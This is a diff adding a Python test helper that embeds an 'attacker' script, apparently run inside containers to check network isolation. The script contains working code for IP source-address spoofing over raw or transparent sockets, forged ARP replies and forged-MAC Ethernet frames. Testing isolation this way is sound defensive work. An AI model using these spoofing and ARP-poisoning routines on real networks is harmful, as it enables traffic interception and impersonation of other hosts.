@@ -1,0 +1,135 @@
+"""What an attacker in a container runs (the host's own /usr/bin/python3, standard library
+only, in a container made from the "host" image): ``python3 -c ATTACKER <command> <args...>``.
+
+Commands (each prints one line of result, or fails with a traceback):
+- ``spoof-udp HOW SRC DST PORT PAYLOAD``: send one UDP datagram from the forged source address
+  SRC; HOW is ``raw`` (a raw socket, IP_HDRINCL: needs NET_RAW, which Docker's default
+  capabilities include), ``transparent`` (IP_TRANSPARENT: NET_RAW too) or ``freebind``
+  (IP_FREEBIND: no capability). Prints "sent", or "refused <errno name>" when the kernel of
+  the container refuses to send it.
+- ``udp DST PORT PAYLOAD``: one genuine datagram.
+- ``arp OP SENDER_IP TARGET_IP TARGET_MAC``: an ARP request or reply (OP ``request``/``reply``)
+  from eth0's MAC that claims SENDER_IP, sent to TARGET_MAC (AF_PACKET: NET_RAW).
+- ``frame SRC_MAC``: one Ethernet broadcast frame from the forged source MAC (an ARP request
+  for nobody), which a learning bridge would remember on this port.
+- ``listen-udp PORT``: print "ready", then "SRC PAYLOAD" for each datagram, until one whose
+  payload is "end".
+- ``connect ADDR PORT``: one TCP connection; prints "connected", "refused" or "timeout".
+- ``mac``: eth0's MAC address.
+"""
+
+ATTACKER = r"""
+import errno, socket, struct, sys
+
+def checksum(data):
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    total = (total >> 16) + (total & 0xFFFF)
+    total += total >> 16
+    return ~total & 0xFFFF
+
+def mac_of(iface="eth0"):
+    with open("/sys/class/net/%s/address" % iface) as f:
+        return f.read().strip()
+
+def mac_bytes(text):
+    return bytes(int(part, 16) for part in text.split(":"))
+
+def spoof_udp(how, src, dst, port, payload):
+    data = payload.encode()
+    try:
+        if how == "raw":
+            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+            udp = struct.pack("!HHHH", 40000, port, 8 + len(data), 0) + data
+            header = struct.pack(
+                "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
+                socket.inet_aton(src), socket.inet_aton(dst),
+            )
+            header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
+            s.sendto(header + udp, (dst, 0))
+        else:
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            option = 19 if how == "transparent" else 15  # IP_TRANSPARENT, IP_FREEBIND
+            s.setsockopt(socket.SOL_IP, option, 1)
+            s.bind((src, 0))
+            s.sendto(data, (dst, port))
+    except OSError as exc:
+        print("refused", errno.errorcode.get(exc.errno, exc.errno))
+        return
+    print("sent")
+
+def udp(dst, port, payload):
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(payload.encode(), (dst, port))
+    print("sent")
+
+def ether_send(dst_mac, src_mac, ethertype, body):
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    s.bind(("eth0", 0))
+    s.send(mac_bytes(dst_mac) + mac_bytes(src_mac) + struct.pack("!H", ethertype) + body)
+
+def arp_body(op, sender_mac, sender_ip, target_mac, target_ip):
+    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + mac_bytes(sender_mac) + \
+        socket.inet_aton(sender_ip) + mac_bytes(target_mac) + socket.inet_aton(target_ip)
+
+def arp(op, sender_ip, target_ip, target_mac):
+    own = mac_of()
+    code = 1 if op == "request" else 2
+    body = arp_body(code, own, sender_ip, target_mac if code == 2 else "00:00:00:00:00:00", target_ip)
+    ether_send(target_mac, own, 0x0806, body)
+    print("sent")
+
+def frame(src_mac):
+    body = arp_body(1, src_mac, "0.0.0.0", "00:00:00:00:00:00", "169.254.1.1")
+    ether_send("ff:ff:ff:ff:ff:ff", src_mac, 0x0806, body)
+    print("sent")
+
+def listen_udp(port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("0.0.0.0", port))
+    print("ready", flush=True)
+    while True:
+        data, source = s.recvfrom(2048)
+        print(source[0], data.decode(), flush=True)
+        if data == b"end":
+            return
+
+def connect(addr, port):
+    s = socket.socket()
+    s.settimeout(5)
+    try:
+        s.connect((addr, port))
+    except ConnectionRefusedError:
+        print("refused")
+    except (TimeoutError, socket.timeout):
+        print("timeout")
+    except OSError as exc:
+        print("error", errno.errorcode.get(exc.errno, exc.errno))
+    else:
+        print("connected")
+
+command, args = sys.argv[1], sys.argv[2:]
+if command == "spoof-udp":
+    spoof_udp(args[0], args[1], args[2], int(args[3]), args[4])
+elif command == "udp":
+    udp(args[0], int(args[1]), args[2])
+elif command == "arp":
+    arp(*args)
+elif command == "frame":
+    frame(args[0])
+elif command == "listen-udp":
+    listen_udp(int(args[0]))
+elif command == "connect":
+    connect(args[0], int(args[1]))
+elif command == "mac":
+    print(mac_of())
+else:
+    sys.exit("unknown command " + command)
+"""
+
+PYTHON = "/usr/bin/python3"  # the host's, seen in a container of the "host" image
+
+
+def argv(command: str, *args: object) -> list[str]:
+    """The command line that runs ``command`` of the attacker script in a container."""
+    return [PYTHON, "-c", ATTACKER, command, *(str(a) for a in args)]
